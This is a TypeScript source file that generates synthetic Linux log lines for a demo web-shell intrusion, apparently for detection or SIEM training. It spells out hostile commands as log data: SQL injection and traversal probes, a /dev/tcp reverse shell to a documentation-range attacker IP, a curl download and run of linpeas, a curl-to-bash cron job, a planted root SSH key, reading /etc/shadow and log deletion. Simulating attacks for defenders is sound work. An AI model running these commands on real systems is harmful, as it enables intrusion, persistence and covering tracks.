import { type AttackScenario, scenarioClock } from './attack-scenario.ts';
import type { Machine } from './demo-company.ts';
import { auditLine, type DemoLine, type DemoWorld, syslogLine } from './demo-line.ts';
import { accessLogLine, firewallLine } from './network-noise.ts';

// A web shell on a Linux server: the upload form is searched and abused, the web server starts shells, one of them
// calls home; the intruder looks around, leaves a cron job and a key, and comes back over SSH.

const SCANNER = 'sqlmap/1.8.2#stable (https://sqlmap.example)';
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const WEB_USER_ID = 33;

interface Scene {
  readonly world: DemoWorld;
  readonly host: Machine;
  readonly attackerIp: string;
  readonly later: (seconds: number) => number;
  serial: number;
}

export const webShellScenario: AttackScenario = {
  name: 'Web shell on a Linux server',
  lastsMs: 35 * 60_000,
  tell: (world, startMs) => {
    const { company, random } = world;
    const scene: Scene = {
      world,
      host: random.pick(company.webServers),
      attackerIp: `198.51.100.${random.whole(20, 90)}`,
      later: scenarioClock(world, startMs),
      serial: 910_000 + random.whole(0, 50_000),
    };
    return [...probing(scene), ...webShell(scene), ...reverseShell(scene), ...persistence(scene)];
  },
};

function web(
  scene: Scene,
  seconds: number,
  method: string,
  path: string,
  status: number,
  agent = BROWSER,
): DemoLine {
  return accessLogLine(scene.later(seconds), scene.host, {
    client: scene.attackerIp,
    method,
    path,
    status,
    bytes: scene.world.random.whole(200, 4000),
    agent,
  });
}

function probing(scene: Scene): DemoLine[] {
  const paths = ['/.git/config', '/wp-login.php', '/admin/', '/backup.zip', '/server-status', '/phpmyadmin/'];
  return [
    ...paths.map((path) => web(scene, 2, 'GET', path, 404, SCANNER)),
    web(
      scene,
      4,
      'GET',
      "/track?id=88121'%20UNION%20SELECT%20username,password%20FROM%20users--",
      500,
      SCANNER,
    ),
    web(scene, 4, 'GET', '/track?id=../../../../etc/passwd', 400, SCANNER),
    web(scene, 60, 'POST', '/uploads/claim-photo.php', 200),
  ];
}

/** A program as the audit log and Sysmon for Linux record it. */
function program(
  scene: Scene,
  seconds: number,
  run: {
    readonly exe: string;
    readonly args: readonly string[];
    readonly parent: string;
    readonly parentCommand: string;
    readonly root?: boolean;
  },
): DemoLine[] {
  const { world, host } = scene;
  const { random } = world;
  const timeMs = scene.later(seconds);
  scene.serial += 1;
  const [uid, name] = run.root ? [0, 'root'] : [WEB_USER_ID, 'www-data'];
  const pid = random.whole(9000, 31_000);
  const comm = run.exe.slice(run.exe.lastIndexOf('/') + 1);
  const encoded = run.args.map((arg, index) => `a${index}=${auditText(arg)}`).join(' ');
  const command = run.args.join(' ');
  const data: readonly (readonly [string, string | number])[] = [
    ['UtcTime', new Date(timeMs).toISOString().replace('T', ' ').replace('Z', '')],
    ['ProcessGuid', `{${random.uuid()}}`],
    ['ProcessId', pid],
    ['Image', run.exe],
    ['CommandLine', command],
    ['CurrentDirectory', '/var/www/html/uploads'],
    ['User', name],
    ['LogonId', uid],
    ['ParentProcessId', 1184],
    ['ParentImage', run.parent],
    ['ParentCommandLine', run.parentCommand],
  ];
  const xml =
    `<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID>` +
    `<Version>5</Version><Level>4</Level><TimeCreated SystemTime="${new Date(timeMs).toISOString()}"/>` +
    `<Channel>Linux-Sysmon/Operational</Channel><Computer>${host.name.toLowerCase()}</Computer></System><EventData>` +
    `${data.map(([field, value]) => `<Data Name="${field}">${xmlText(String(value))}</Data>`).join('')}</EventData></Event>`;
  return [
    auditLine(
      timeMs,
      host,
      'SYSCALL',
      scene.serial,
      `arch=c000003e syscall=59 success=yes exit=0 items=2 ppid=1184 pid=${pid} auid=4294967295 uid=${uid} gid=${uid} ` +
        `euid=${uid} tty=(none) ses=4294967295 comm="${comm}" exe="${run.exe}" key="exec"\u001dAUID="unset" UID="${name}" GID="${name}"`,
    ),
    auditLine(timeMs, host, 'EXECVE', scene.serial, `argc=${run.args.length} ${encoded}`),
    syslogLine('linux-syslog', timeMs, host, { name: 'sysmon', processId: 701, priority: 14 }, xml),
  ];
}

/** The kernel writes text with blanks or quotes in hexadecimal. */
function auditText(text: string): string {
  return /^[\w./:+-]+$/.test(text) ? `"${text}"` : Buffer.from(text, 'utf8').toString('hex').toUpperCase();
}

function xmlText(text: string): string {
  return text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');
}

const APACHE = { parent: '/usr/sbin/apache2', parentCommand: '/usr/sbin/apache2 -k start' };

function webShell(scene: Scene): DemoLine[] {
  const commands = ['id', 'uname -a', 'cat /etc/passwd', 'ls -la /var/www/html', 'which curl wget python3'];
  return commands.flatMap((command) => [
    web(scene, 15, 'GET', `/uploads/claim-photo.php?cmd=${encodeURIComponent(command)}`, 200),
    ...program(scene, 0.2, { exe: '/usr/bin/dash', args: ['sh', '-c', command], ...APACHE }),
  ]);
}

function reverseShell(scene: Scene): DemoLine[] {
  const { attackerIp, world, host } = scene;
  const call = `bash -i >& /dev/tcp/${attackerIp}/4444 0>&1`;
  const bash = { parent: '/usr/bin/bash', parentCommand: 'bash -i' };
  return [
    web(scene, 40, 'GET', `/uploads/claim-photo.php?cmd=${encodeURIComponent(`bash -c '${call}'`)}`, 200),
    ...program(scene, 0.2, { exe: '/usr/bin/bash', args: ['bash', '-c', call], ...APACHE }),
    firewallLine(world, scene.later(1), {
      from: host.ip,
      to: attackerIp,
      port: 4444,
      proto: 6,
      service: 'tcp/4444',
      action: 'accept',
      policy: 'servers-to-internet',
      sent: 18_400,
      received: 7_300,
      durationMs: 1_260_000,
    }),
    ...program(scene, 20, { exe: '/usr/bin/whoami', args: ['whoami'], ...bash }),
    ...program(scene, 12, {
      exe: '/usr/bin/find',
      args: ['find', '/', '-perm', '-4000', '-type', 'f'],
      ...bash,
    }),
    ...program(scene, 30, {
      exe: '/usr/bin/curl',
      args: ['curl', '-fsSL', `http://${attackerIp}:8000/linpeas.sh`, '-o', '/dev/shm/.l.sh'],
      ...bash,
    }),
    ...program(scene, 8, { exe: '/usr/bin/chmod', args: ['chmod', '+x', '/dev/shm/.l.sh'], ...bash }),
    ...program(scene, 4, { exe: '/usr/bin/bash', args: ['bash', '/dev/shm/.l.sh'], ...bash }),
  ];
}

function persistence(scene: Scene): DemoLine[] {
  const { attackerIp, host, later, world } = scene;
  const root = { parent: '/usr/bin/bash', parentCommand: 'bash -i', root: true };
  const job = `* * * * * curl -fsSL http://${attackerIp}:8000/u.sh | bash`;
  const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoKeyOfTheStoryOnly backup@local';
  scene.serial += 1;
  return [
    ...program(scene, 120, {
      exe: '/usr/bin/dash',
      args: ['sh', '-c', `(crontab -l 2>/dev/null; echo "${job}") | crontab -`],
      ...root,
    }),
    ...program(scene, 1, { exe: '/usr/bin/crontab', args: ['crontab', '-'], ...root }),
    ...program(scene, 30, {
      exe: '/usr/bin/dash',
      args: ['sh', '-c', `echo "${key}" >> /root/.ssh/authorized_keys`],
      ...root,
    }),
    auditLine(
      later(0.1),
      host,
      'PATH',
      scene.serial,
      'item=1 name="/root/.ssh/authorized_keys" inode=131204 dev=fd:00 mode=0100600 ouid=0 ogid=0 nametype=NORMAL',
    ),
    syslogLine(
      'linux-syslog',
      later(60),
      host,
      { name: 'CRON', processId: world.random.whole(20_000, 31_000), priority: 78 },
      `(root) CMD (curl -fsSL http://${attackerIp}:8000/u.sh | bash)`,
    ),
    syslogLine(
      'linux-syslog',
      later(180),
      host,
      { name: 'sshd', processId: world.random.whole(20_000, 31_000), priority: 86 },
      `Accepted publickey for root from ${attackerIp} port ${world.random.whole(40_000, 60_000)} ssh2: ED25519 SHA256:${world.random.hex(43)}`,
    ),
    ...program(scene, 20, { exe: '/usr/bin/cat', args: ['cat', '/etc/shadow'], ...root }),
    ...program(scene, 40, {
      exe: '/usr/bin/rm',
      args: ['rm', '-f', '/var/log/auth.log', '/root/.bash_history'],
      ...root,
    }),
  ];
}
